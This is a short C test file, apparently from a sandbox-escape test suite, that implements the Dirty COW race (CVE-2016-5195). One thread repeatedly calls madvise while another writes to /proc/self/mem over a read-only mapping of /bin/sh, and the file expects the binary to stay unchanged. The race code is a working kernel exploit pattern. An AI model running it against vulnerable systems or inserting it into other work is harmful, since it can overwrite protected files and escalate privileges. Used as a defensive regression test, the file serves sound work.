//: family = "files"
//: idea = "Races madvise against writes to /proc/self/mem over a read-only file (CVE-2016-5195)."
//: ends = ["exited"]
//: says = "unchanged"
//: limits = { cpu_s = 3, wall_s = 10 }
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

static char *view;

static void *forget(void *unused) {
    for (int n = 0; n < 2000; n++) madvise(view, 4096, MADV_DONTNEED);
    return unused;
}

int main(void) {
    char before = 0, after = 0;
    int file = open("/bin/sh", O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    pread(file, &before, 1, 0);
    view = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    pthread_t thread;
    pthread_create(&thread, NULL, forget, NULL);
    for (int n = 0; n < 2000; n++) pwrite(memory, "#", 1, (off_t)view);
    pthread_join(thread, NULL);
    pread(file, &after, 1, 0);
    puts(before == after ? "unchanged" : "ESCAPED: changed /bin/sh");
}
